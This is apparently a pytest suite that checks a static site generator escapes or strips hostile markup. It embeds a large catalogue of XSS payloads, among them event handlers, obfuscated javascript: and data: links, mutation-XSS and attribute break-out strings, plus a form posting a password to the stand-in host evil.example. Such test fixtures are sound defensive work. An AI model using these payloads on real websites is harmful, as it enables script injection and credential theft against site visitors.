"""Cases 1-4: hostile markup in bodies, links, attributes and front matter builds and is harmless."""

from __future__ import annotations

import json
import re
from pathlib import Path
from xml.etree import ElementTree

import html5lib
import pytest
from conftest import write_tree
from hostile_helpers import SAFE_ID, executable_content, html_findings

from briefing.cli import main

HOSTILE_BODY = """\
Opening paragraph with <b onclick="alert('b')">bold</b> and <i onmouseover=alert(1)>italic</i>.

<script>alert('script')</script>

<SCRIPT SRC=//evil.example/x.js></SCRIPT>

<iframe src="https://evil.example/frame"></iframe>

<style>body { background: url(https://evil.example/bg) }</style>

<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>

<object data="evil.swf"></object>

<embed src="evil.swf">

<base href="https://evil.example/">

<meta http-equiv="refresh" content="0;url=javascript:alert(1)">

<link rel="stylesheet" href="https://evil.example/evil.css">

An image: <img src="x" onerror="alert('img')"> and <svg onload="alert('svg')"><script>alert(2)</script></svg>.

<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>

<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></p></noscript>

<p style="background:url(javascript:alert(1))">styled</p>

A paragraph with <a href="#" onclick="alert(3)">onclick link</a>.

<details open ontoggle="alert('toggle')"><summary>s</summary></details>

## Links

[plain js](javascript:alert(1)) [mixed case](JaVaScRiPt:alert(1)) [entity one](&#106;avascript:alert(1))
[entity two](&#x6A;&#x61;vascript:alert(1)) [tab split](<java\tscript:alert(1)>)
[newline split](java&#10;script:alert(1)) [data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[vb link](vbscript:msgbox(1)) [leading space](%20javascript:alert(1))
<a href="java&#x09;script:alert(1)">raw tab</a> <a href="&#x20;javascript:alert(1)">raw space</a>
<a href="JAVASCRIPT&colon;alert(1)">raw colon entity</a> <img src="data:image/svg+xml,<svg onload=alert(1)>">
[keep https](https://example.org/a) [keep mailto](mailto:desk@example.org) [keep relative](other.html#part)

## Attribute break-out

[titled](https://example.org "a title\\" onmouseover=\\"alert(1)") ![alt" onerror="alert(1)](https://example.org/i.png)
![alt' onerror='alert(1)](https://example.org/j.png "t' onload='alert(1)")

```js" onload="alert(1)
fenced with a hostile info string
```

```{ .js #id onclick="alert(1)" }
fenced with hostile attributes
```

## Heading" onclick="alert(1)" id="x

## Heading" onclick="alert(1)" id="x

<h2 id="main">steals the page's main id</h2>

<h3 id='x" onclick="alert(1)'>quoted id</h3>

<body onload="alert('body')">
"""

TITLE = "<script>alert(\"T\")</script> & \"Q\" </title><img src=x onerror=alert(1)>"
FRONT_MATTER = f"""---
title: '{TITLE.replace("'", "''")}'
date: 2020-03-04
dek: '"><img src=x onerror=alert("dek")>'
summary: '</script><script>alert("summary")</script>'
publication: '<i onmouseover=alert(1)>Daily</i>'
authors: ['<b>Ann</b> "Quote" Author', 'B. <script>x</script>']
dateline: '<svg onload=alert(1)>'
notes: ['<iframe src=x></iframe>']
tags: ['<script>alert(1)</script>']
---
"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site built from hostile Markdown, hostile plain text and hostile front matter."""
    root = tmp_path_factory.mktemp("hostile")
    src = write_tree(root / "src", {
        "hostile.md": FRONT_MATTER + HOSTILE_BODY,
        "hostile.txt": "---\ntitle: Hostile plain text\ndate: 2020-03-05\n---\n" + HOSTILE_BODY,
        "neighbour.md": "---\ntitle: A neighbour\ndate: 2020-03-06\n---\nLinks to [the other](hostile.html).\n",
    })
    out = root / "dist"
    assert main(["--source", str(src), "--out", str(out), "--quiet", "--base-url", "/b/",
                 "--site-url", "https://example.org/b/"]) == 0
    return out


def _page(site: Path, date: str) -> str:
    """Return the article page of the given date (each fixture has its own)."""
    pages = sorted((site / "articles").glob(f"{date}-*.html"))
    assert len(pages) == 1, pages
    return pages[0].read_text(encoding="utf-8")


MD_PAGE, TXT_PAGE = "2020-03-04", "2020-03-05"


def _parse(html: str):
    return html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)


def test_scanner_flags_what_it_should():
    """The scanner itself catches each kind of executable content (so a clean result means something)."""
    bad = ('<p onclick="x">a</p><a href=" java&#9;script:x">b</a><iframe></iframe><style>p{}</style>'
           '<script>alert(1)</script><img src="data:image/png,x"><h2 id="a b">c</h2>')
    found = " ".join(html_findings(bad, "articles/a.html", Path("/nonexistent"), set()))
    for needle in ("onclick", "executable URL", "<iframe", "<style", "<script", "id='a b'"):
        assert needle in found


def test_case1_raw_html_and_text_are_harmless(hostile_site):
    """Case 1: scripts, frames, styles, forms, handlers: nothing executable in dist/ but our own scripts."""
    assert executable_content(hostile_site) == []
    text_page = _page(hostile_site, TXT_PAGE)
    # .txt is text: the markup is shown, escaped, not dropped.
    assert "&lt;script&gt;alert('script')&lt;/script&gt;" in text_page
    assert "&lt;iframe src=\"https://evil.example/frame\"&gt;" in text_page or \
        "&lt;iframe src=&#34;https://evil.example/frame&#34;&gt;" in text_page


def test_case2_only_safe_link_schemes_survive_and_link_text_is_kept(hostile_site):
    """Case 2: javascript:, entity and tab-split schemes, data:, vbscript: are dropped; the words stay."""
    tree = _parse(_page(hostile_site, MD_PAGE))
    links = {("".join(a.itertext())).strip(): a.get("href") for a in tree.iter("a")}
    for text in ("plain js", "mixed case", "entity one", "entity two", "tab split", "newline split",
                 "data link", "vb link", "leading space", "raw tab", "raw space", "raw colon entity"):
        assert text in links, f"link text {text!r} was lost"
        assert links[text] is None or links[text].startswith(("http:", "https:", "mailto:", "#")) \
            or ":" not in links[text].split("/")[0], f"{text!r} kept href {links[text]!r}"
    assert links["keep https"] == "https://example.org/a"
    assert links["keep mailto"] == "mailto:desk@example.org"
    assert links["keep relative"] == "other.html#part"


def test_case3_attribute_break_out_is_escaped(hostile_site):
    """Case 3: link titles, alt text, fence info strings and heading ids cannot add attributes."""
    html = _page(hostile_site, MD_PAGE)
    tree = _parse(html)
    titled = next(a for a in tree.iter("a") if "".join(a.itertext()) == "titled")
    assert set(titled.attrib) <= {"href", "title", "rel"} and "onmouseover" in titled.get("title")
    for image in tree.iter("img"):
        assert set(image.attrib) <= {"src", "alt", "title", "width", "height"}
    headings = [h for tag in ("h2", "h3") for h in tree.iter(tag)]
    ids = [h.get("id") for h in headings if h.get("id")]
    assert ids and all(SAFE_ID.match(i) for i in ids), ids
    all_ids = [e.get("id") for e in tree.iter() if isinstance(e.tag, str) and e.get("id")]
    assert len(all_ids) == len(set(all_ids)), "content duplicated an id of the page"
    assert "fenced with a hostile info string" in html and "fenced with hostile attributes" in html


def test_case4_front_matter_markup_is_escaped_everywhere(hostile_site):
    """Case 4: markup in front matter is text in <title>, <h1>, meta tags, JSON-LD, JSON and the feed."""
    html = _page(hostile_site, MD_PAGE)
    tree = _parse(html)
    assert TITLE in tree.find(".//title").text
    assert TITLE in "".join(tree.find(".//h1").itertext())
    metas = [m.get("content") for m in tree.iter("meta") if m.get("content")]
    assert any(TITLE in m for m in metas if m) or not any("og:title" == m.get("property") for m in tree.iter("meta"))
    assert '</script><script>alert("summary")</script>' in metas
    assert '"><img src=x onerror=alert("dek")>' in "".join(tree.find(".//h1/..").itertext())
    for script in tree.iter("script"):
        if script.get("type") == "application/ld+json":
            assert TITLE in json.dumps(json.loads(script.text), ensure_ascii=False).replace('\\"', '"')
    records = json.loads((hostile_site / "articles.json").read_text(encoding="utf-8"))
    assert TITLE in [r["title"] for r in records]
    feed = hostile_site / "feed.xml"
    if feed.exists():  # the feed is another issue's; when it is there it must parse and carry the title
        root = ElementTree.parse(feed).getroot()
        assert TITLE in [t.text for t in root.iter() if t.tag.endswith("title")]
    for page in hostile_site.rglob("*.html"):
        assert not re.search(r"<script>alert|<img src=x onerror", page.read_text(encoding="utf-8"), re.I), page
